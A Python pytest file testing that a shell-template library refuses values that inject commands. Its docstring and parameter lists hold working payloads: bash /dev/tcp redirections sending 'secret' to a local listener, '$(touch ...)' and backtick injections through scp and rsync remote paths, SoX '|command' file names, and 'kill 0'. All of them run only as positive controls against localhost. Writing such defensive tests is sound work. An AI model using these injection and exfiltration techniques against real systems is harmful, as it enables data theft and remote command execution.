"""sh() and argv(): hostile contexts of the seventeenth pass.

Each hole was reproduced with the old render (each value through ``shlex.quote``, which is what
sh() gave for these templates) in real dash and bash, then refused by allow-list:

* A redirection's target a value gives (``echo {x} > {out}``, ``cat < {f}``, ``exec 3<>
  {f}``): bash reads ``/dev/tcp/HOST/PORT`` and ``/dev/udp/HOST/PORT`` there as a network
  connection to that host, not as a file (its ``redir.c`` matches the target against those
  names before it opens anything), while dash opens the path, which does not exist.  With the
  old render bash sent ``secret`` to a listener on 127.0.0.1 for each case, also through a
  ``for`` loop's or ``set --``'s variable, a command string's positional parameter (``bash -c
  'echo secret > "$1"' sh {x}``, which connects under dash too, since it runs bash), a ``$( )``
  and a line that ``read`` stored from a pipe.  A path of the machine's files stays accepted,
  and so does a socket the static text writes (``> /dev/tcp/{host}/80``).
* A remote operand of scp (``scp h:{path} .``): the legacy protocol (``scp -O``, the default
  before OpenSSH 9.0) runs ``scp -f PATH`` through the remote user's shell, so ``$(cmd)`` ran.
* A file of SoX (``sox {in} out.wav``): a name starting with ``|`` is a command SoX runs, and a
  URL is fetched with ``wget "URL"`` through a shell, where ``$(cmd)`` ran.
* A shell's command string's positional parameter reaching such a parsed argument (``sh -c
  'kill "$1"' sh {pid}`` with 0 stopped the process group): now checked as a loop variable is.
"""

from __future__ import annotations

import pathlib
import shutil
import socket
import subprocess
import threading
from collections.abc import Callable

import pytest
from conftest import require
from test_shell_contexts import SHELLS, naive_sh
from test_shell_fourth_pass import _template
from test_shell_programs_pass import stops_own_group

from ipy_istring.fields import RenderError
from ipy_istring.shell import argv, sh


class _Listener:
    """A TCP listener on 127.0.0.1 that records whether a client connected and what it sent
    (bounded: one connection, a few seconds)."""

    def __init__(self) -> None:
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(4)
        # (close() always ends the wait with a connection of its own: the bound is only for a
        # test gone wrong. 10 s was too short on a loaded machine: the command's shell had not
        # yet connected when the wait gave up, and the positive control failed.)
        self.server.settimeout(120)
        self.port = self.server.getsockname()[1]
        self.own_port = -1  # the port of close()'s own connection, which ends the wait
        self.connected = False
        self.received = b""
        self.thread = threading.Thread(target=self._accept)
        self.thread.start()

    def _accept(self) -> None:
        try:
            connection, (_, port) = self.server.accept()
        except OSError:
            return
        with connection:
            if port == self.own_port:
                return
            self.connected = True
            connection.settimeout(2)
            try:
                connection.sendall(b"remote\n")  # (what a `<` reads)
                self.received = connection.recv(100)
            except OSError:
                pass

    def close(self) -> None:
        """After the command ran: a connection of its own, if any, is first in the queue; one
        of ours ends the wait if there is none."""
        with socket.socket() as own:
            own.bind(("127.0.0.1", 0))
            self.own_port = own.getsockname()[1]
            own.settimeout(2)
            own.connect(("127.0.0.1", self.port))
            self.thread.join(60)
        self.server.close()


def _run(shell: str, command: str, where: pathlib.Path) -> None:
    subprocess.run(
        [shell, "-c", command], cwd=where, capture_output=True, timeout=20, check=False
    )


# (template with § for the field, what the value is given: the socket's whole name, or the part
# after a static /dev/)
SOCKET_CASES = [
    "echo secret > §",
    "echo secret >> §",
    "echo secret >| §",
    "echo secret 1<> §",
    "exec 3<> §; echo secret >&3",
    "{ echo secret; } > §",
    "(echo secret) > §",
    "cat < §",
    "echo secret > /dev/§",
    'echo secret > "/dev/"§',
    'for f in §; do echo secret > "$f"; done',
    "for f in §; do echo secret > $f; done",
    'set -- §; echo secret > "$1"',
    "bash -c 'echo secret > \"$1\"' sh §",
    "bash -c 'for f; do echo secret > \"$f\"; done' sh §",
    'echo § | while read -r f; do echo secret > "$f"; done',
    "set -- §; trap 'echo secret > \"$1\"' EXIT",
    "for f in §; do eval 'echo secret > \"$f\"'; done",
    'echo secret > "$(printf %s §)"',
    'echo secret > "/dev/$(printf %s §)"',
]


def _socket_value(case: str, port: int) -> str:
    name = f"tcp/127.0.0.1/{port}"
    return name if "/dev/§" in case or '"/dev/"§' in case or "/dev/$(" in case else "/dev/" + name


@pytest.mark.parametrize("case", SOCKET_CASES)
def test_a_value_naming_bash_network_socket_is_refused(case: str, tmp_path: pathlib.Path) -> None:
    # Positive control: the old render (each value through shlex.quote, which sh() gave for
    # every case before this pass) made bash connect to the host the value named.
    listener = _Listener()
    value = _socket_value(case, listener.port)
    try:
        _run("/bin/bash", naive_sh(_template(case, value)), tmp_path)
    finally:
        listener.close()
    assert listener.connected, case
    if "secret" in case and "cat" not in case:
        assert listener.received == b"secret\n", (case, listener.received)
    with pytest.raises(RenderError, match=r"/dev/tcp|network connection"):
        sh(_template(case, value))


@pytest.mark.parametrize("case", ["echo secret > §", "cat < §", 'set -- §; echo secret > "$1"'])
def test_dash_opens_the_path_where_bash_connects(case: str, tmp_path: pathlib.Path) -> None:
    """Why this is a difference of the two shells, not a file the value chooses: dash never
    connects (it fails to create /dev/tcp/...)."""
    listener = _Listener()
    try:
        value = _socket_value(case, listener.port)
        _run("/usr/bin/dash", naive_sh(_template(case, value)), tmp_path)
    finally:
        listener.close()
    assert not listener.connected


@pytest.mark.parametrize(
    "case, value",
    [
        ("echo hi > §", "/dev/udp/127.0.0.1/9"),
        ("echo hi > §", "a /dev/tcp/127.0.0.1/9"),  # (a line `read` would store)
        ("echo hi > §", "/dev/tcp/localhost/http"),
        ("echo hi > §§", "/dev/tcp/127.0.0.1/9"),
        ("exec 4> §", "/dev/tcp/127.0.0.1/9"),
        ("printf '%s\\n' § | while read -r f; do echo hi > \"$f\"; done", "/dev/tcp/h/9"),
        ('sh -c \'for f; do echo hi > "$f"; done\' sh §', "/dev/tcp/h/9"),
        ('for f in §; do sh -c \'echo hi > "$1"\' sh "$f"; done', "/dev/tcp/h/9"),
    ],
)
def test_other_spellings_are_refused(case: str, value: str) -> None:
    with pytest.raises(RenderError, match="network connection"):
        sh(_template(case, value))


@pytest.mark.parametrize(
    "case",
    [
        'echo hi > "$(echo § | tr A-Z a-z)"',  # (/DEV/TCP/... made /dev/tcp/...)
        'echo hi > "$(printf %s § §)"',  # (two values join: '/dev/' and 'tcp/h/80')
        'for f in §; do echo hi > "/dev/$f"; done',
        'echo hi > "/dev/$(printf %s §)"',
    ],
)
def test_expansions_that_may_build_a_socket_name_are_refused_whatever_the_value(
    case: str,
) -> None:
    with pytest.raises(RenderError):
        sh(_template(case, "out.txt"))


def test_a_filter_made_a_socket_name_of_another_value(tmp_path: pathlib.Path) -> None:
    """Positive control of the filter case: the value itself names no socket."""
    listener = _Listener()
    case = 'echo secret > "$(echo § | tr A-Z a-z)"'
    try:
        value = f"/DEV/TCP/127.0.0.1/{listener.port}"
        _run("/bin/bash", naive_sh(_template(case, value)), tmp_path)
    finally:
        listener.close()
    assert listener.received == b"secret\n"


# Look-alikes: files, whatever their names hold, and sockets the text itself names.
FILE_CASES = [
    ("echo hi > §", "out.txt"),
    ("echo hi > §", "./dev/tcp/127.0.0.1/9"),
    ("echo hi > §", "dev-tcp.txt"),
    ("echo hi > §", "/tmp/dev/tcp/x"),
    ("echo hi > out/§.log", "/dev/tcp/127.0.0.1/9"),  # (a path below out/)
    ("echo hi > /dev/null; cat -- §", "/dev/tcp/127.0.0.1/9"),  # (cat opens the path)
    ("echo hi | tee §", "/dev/tcp/127.0.0.1/9"),
    ('for f in §; do sort "$f" > "$f.sorted"; done', "in.txt"),
    ('printf \'%s\\n\' § | while read -r f; do wc -l < "$f" > "$f.n"; done', "in.txt"),
    ("bash -c 'echo hi > \"$1\"' sh §", "out.log"),
    ('echo hi > "$(printf %s §).log"', "out"),
    ('echo hi > "x$(printf %s §)"', "/dev/tcp/127.0.0.1/9"),
    ('for f in §; do echo hi > "/tmp/$f"; done', "x"),
]


@pytest.mark.parametrize("case, value", FILE_CASES)
def test_files_stay_accepted(case: str, value: str) -> None:
    sh(_template(case, value))


@pytest.mark.parametrize("shell", SHELLS)
def test_a_file_stays_a_file_in_both_shells(shell: str, tmp_path: pathlib.Path) -> None:
    (tmp_path / "in.txt").write_text("a\nb\n")
    command = sh(_template('for f in §; do sort "$f" > "$f.sorted"; done', "in.txt"))
    _run(shell, command, tmp_path)
    assert (tmp_path / "in.txt.sorted").read_text() == "a\nb\n"


def test_a_socket_the_text_names_stays_accepted(tmp_path: pathlib.Path) -> None:
    """``> /dev/tcp/{host}/{port}``: the author wrote the connection; the value is its host."""
    listener = _Listener()
    try:
        command = sh(_template(f"echo hi > /dev/tcp/§/{listener.port}", "127.0.0.1"))
        _run("/bin/bash", command, tmp_path)
    finally:
        listener.close()
    assert listener.received == b"hi\n"


def test_argv_has_no_redirection() -> None:
    """argv() runs no shell: `>` needs one, so the case is refused there whatever the value."""
    with pytest.raises(RenderError, match="needs a shell"):
        argv(_template("echo hi > §", "out.txt"))


# -- scp's remote operands ----------------------------------------------------------------------
#
# scp's legacy protocol (`scp -O`; the default of every scp before OpenSSH 9.0) runs `scp -f PATH`
# (or `scp -t PATH` to upload) on the remote host as the command of an ssh session, which sshd
# runs with the user's shell (`$SHELL -c COMMAND`, OpenSSH's session.c), unquoted: the remote
# shell expands the path, so `scp h:{path} .` with `$(cmd)` ran cmd on that host.  `-S` names
# the program scp runs instead of ssh; FAKE_SSH stands in for ssh and sshd together and runs the
# command it is sent the way sshd does, with sh -c (to its end, while scp waits on its output,
# then fails the copy).

FAKE_SSH = """#!/bin/sh
while [ $# -gt 0 ]; do
  case "$1" in --) shift; break;; -[lpoiFcJ]) shift 2;; -*) shift;; *) break;; esac
done
shift
printf '%s' "$*" > remote-command
sh -c "$*" < /dev/null > /dev/null 2>&1
exit 1
"""
SENTINEL = "pwned-by-scp"

_SCP = "scp -O -S ./fake-ssh"
SCP_CASES = [
    *(
        (f"{_SCP} h:§ .", f"{before}touch {SENTINEL}{after}")
        for before, after in (("$(", ")"), ("`", "`"), ("x; ", ""), ("x\n", ""), ("x | ", ""))
    ),
    *(
        (case, f"$(touch {SENTINEL})")
        for case in (
            f"{_SCP} user@h:/srv/§ .",
            "scp -O -P 22 -S ./fake-ssh h:§ .",
            "scp -OS ./fake-ssh h:§ .",
            f"{_SCP} local.txt h:§",  # (upload: scp -t PATH)
            f"{_SCP} scp://h/§ .",
        )
    ),
    *(  # (the value names the host too)
        (case, f"h:$(touch {SENTINEL})")
        for case in (
            f"{_SCP} § .",
            f"{_SCP} -- § .",
            # (`for f in §; do … "$f" .; done` until the twenty-third pass, which refuses scp
            # in a loop first as a writer run again: tests/test_shell_twenty_third_pass.py)
            f'set -- x §; {_SCP} "$2" .',
            f'set -- §; {_SCP} "$1" .',
        )
    ),
    # rsync before 3.2.4 passed its remote paths to the remote shell unescaped; 3.2.4 and later
    # escape them unless given --old-args or RSYNC_OLD_ARGS=1 (the caller's environment, which
    # the template cannot see), which reproduce the old rsync here.
    *(
        (case, f"$(touch {SENTINEL})")
        for case in (
            "rsync --old-args -e ./fake-ssh h:§ out/",
            "rsync --old-args -a -e ./fake-ssh user@h:/srv/§ out/",
            "rsync --old-args -e ./fake-ssh local.txt h:§",
        )
    ),
    ("rsync --old-args -e ./fake-ssh § out/", f"h:`touch {SENTINEL}`"),
]


def _scp_place(where: pathlib.Path) -> None:
    require(shutil.which("scp") is not None, "scp is not installed")
    require(shutil.which("rsync") is not None, "rsync is not installed")
    fake = where / "fake-ssh"
    fake.write_text(FAKE_SSH)
    fake.chmod(0o755)
    (where / "local.txt").write_text("local\n")


@pytest.mark.parametrize(
    "case",
    [
        "scp h:§ .",  # (OpenSSH before 9.0 speaks the legacy protocol without -O)
        "rsync -a h:§ .",  # (rsync before 3.2.4 did not escape it)
        "scp -r h:§ out/",
        "scp -- h:§ .",
        "scp h1:§ h2:/tmp/",  # (remote to remote: h1 runs scp with both operands)
        "echo § | while read -r f; do scp \"h:$f\" .; done",
        "sh -c 'scp \"$1\" .' sh h:§",
    ],
)
def test_remote_paths_are_refused_without_o_too(case: str) -> None:
    with pytest.raises(RenderError):
        sh(_template(case, "$(id)"))


SCP_FILES = [
    ("scp -O -S ./fake-ssh h:§ .", "notes.txt"),
    ("scp -O -S ./fake-ssh h:§ .", "logs/*.log"),  # (a pattern chooses files)
    ("scp -O -S ./fake-ssh h:§ .", "~/rapport-été 2024.pdf"),
    ("scp -O -S ./fake-ssh h:§ .", "a,b{1,2}@host:%+=#.txt"),
    ("scp -O -S ./fake-ssh local.txt h:§", "backup/"),
    ("scp -O -S ./fake-ssh § h:/tmp/", "local.txt"),
    ("rsync --old-args -e ./fake-ssh h:§ out/", "notes.txt"),
    ("rsync --old-args -e ./fake-ssh h:§ out/", "logs/*.log"),
]


@pytest.mark.parametrize("case, value", SCP_FILES)
def test_remote_file_names_stay_accepted(case: str, value: str, tmp_path: pathlib.Path) -> None:
    _scp_place(tmp_path)
    command = sh(_template(case, value))
    _run("/usr/bin/dash", command, tmp_path)
    assert not (tmp_path / SENTINEL).exists()
    assert (tmp_path / "remote-command").read_text().endswith(value.replace("local.txt", "/tmp/"))


@pytest.mark.parametrize(
    "case, value",
    [
        ("scp § h:/tmp/", "a$(id).txt"),  # (a local file: no shell reads its name)
        ("scp -i § h:x .", "key$1"),  # (an option's argument)
        ("scp ./§ h:/tmp/", "x:$(id)"),  # (a '/' before the ':': local)
        ("sftp h:§", "$(id)"),  # (sftp's protocol runs no shell)
        ("rsync -a h::module/§ .", "$(id)"),  # (rsync's daemon: no shell)
        ("rsync -a rsync://h/module/§ .", "$(id)"),
        ("rsync -a § h:/backup/", "a$(id).txt"),  # (a local file)
        ("scp -P § h:x .", "22"),
    ],
)
def test_local_operands_and_options_stay_accepted(case: str, value: str) -> None:
    sh(_template(case, value))


# -- a command string's positional parameter in an argument its program parses further ----------
#
# The rules of such arguments (kill's process operand, scp's remote operand, a redirection's
# target...) already reached a loop's or `set --`'s variable; a shell's command string written in
# the static text reads its parameter the same way (`sh -c 'kill "$1"' sh {pid}`), and the value
# is now checked there too (it was not: 0 stopped the process group).


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize(
    "case", ["sh -c 'kill \"$1\"' sh §", "for p in §; do eval 'kill \"$p\"'; done"]
)
def test_kill_through_a_command_string_parameter_is_checked(
    shell: str, case: str, tmp_path: pathlib.Path
) -> None:
    # Positive control: kill 0 stopped the session's process group.
    assert stops_own_group(shell, naive_sh(_template(case, "0")), tmp_path)
    with pytest.raises(RenderError, match="kill's process operand"):
        sh(_template(case, "0"))
    victim = subprocess.Popen(["setsid", "sleep", "30"])
    subprocess.run([shell, "-c", sh(_template(case, victim.pid))], timeout=20, check=False)
    assert victim.wait(timeout=5) < 0  # the look-alike: that process only


# -- SoX's file names -----------------------------------------------------------------------------
#
# SoX (sox, soxi, play, rec) opens an input file whose name starts with '|' with popen(): the
# rest is a shell command, whose output it reads.  And it fetches a URL (http:, https:, ftp:)
# by running `wget ... "URL"` through /bin/sh, inside double quotes, where `$(cmd)`, `` `cmd` ``
# run and '"' ends the quotes (SoX 14.4.2's xfopen()).  sh() had accepted a value there as any
# unknown program's operand; docs/renderers.md had left SoX out as not installed.

SOX_SENTINEL = "pwned-by-sox"
SOX_CASES = [
    ("sox § out.wav", f"|touch {SOX_SENTINEL}"),
    ("sox -t wav § out.wav", f"|touch {SOX_SENTINEL}"),
    ("sox -- § out.wav", f"|touch {SOX_SENTINEL}"),
    ("soxi §", f"|touch {SOX_SENTINEL}"),
    ("sox in.wav § mixed.wav", f"|touch {SOX_SENTINEL}"),  # (a second input)
    ("sox -t wav § out.wav", f"http://127.0.0.1:9/$(touch {SOX_SENTINEL})"),
    ("sox -t wav § out.wav", f'http://127.0.0.1:9/x";touch {SOX_SENTINEL};"'),
    ("sox -t wav http://127.0.0.1:9/§ out.wav", f"`touch {SOX_SENTINEL}`"),
    ("sox '|cat '§ out.wav", f"in.wav; touch {SOX_SENTINEL}"),  # (the text's own pipe)
    ('for f in §; do sox "$f" out.wav; done', f"|touch {SOX_SENTINEL}"),
    ('sh -c \'sox "$1" out.wav\' sh §', f"|touch {SOX_SENTINEL}"),
]


def _sox_place(where: pathlib.Path) -> None:
    require(shutil.which("sox") is not None, "sox is not installed")
    subprocess.run(
        ["sox", "-n", "-r", "8000", "in.wav", "trim", "0", "0.01"], cwd=where, check=True
    )


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize(
    "place, sentinel, match, case, value",
    [
        *((_scp_place, SENTINEL, "remote operand", *case) for case in SCP_CASES),
        *((_sox_place, SOX_SENTINEL, "SoX", *case) for case in SOX_CASES),
    ],
)
def test_a_file_name_its_program_hands_to_a_shell_is_refused(
    shell: str,
    place: Callable[[pathlib.Path], None],
    sentinel: str,
    match: str,
    case: str,
    value: str,
    tmp_path: pathlib.Path,
) -> None:
    place(tmp_path)
    # Positive control: the old render (shlex.quote of the value; sh() gave it before) ran the
    # value's command (on the "remote" host, for scp).
    _run(shell, naive_sh(_template(case, value)), tmp_path)
    assert (tmp_path / sentinel).exists(), case
    with pytest.raises(RenderError, match=match):
        sh(_template(case, value))


@pytest.mark.parametrize(
    "case, value",
    [
        ("sox § out.wav", "in.wav"),
        ("sox ./§ out.wav", "|x.wav"),  # (a file whose name starts with '|')
        ("sox in.wav out.wav trim 0 §", "0.005"),
        ("sox -r § in.wav out.wav", "8000"),
        ("sox in.wav §", "out.wav"),
        ("sox -t wav § out.wav", "https://h.example/a%20b.wav?x=1&y=(2)"),
        ("soxi §", "in.wav"),
    ],
)
def test_sox_files_stay_accepted(case: str, value: str, tmp_path: pathlib.Path) -> None:
    command = sh(_template(case, value))
    if "h.example" in value:
        return  # (no network: the URL is only rendered)
    _sox_place(tmp_path)
    if value.startswith("|"):
        subprocess.run(["cp", "in.wav", value], cwd=tmp_path, check=True)
    result = subprocess.run(
        ["/usr/bin/dash", "-c", command], cwd=tmp_path, capture_output=True, timeout=20
    )
    assert result.returncode == 0, result.stderr
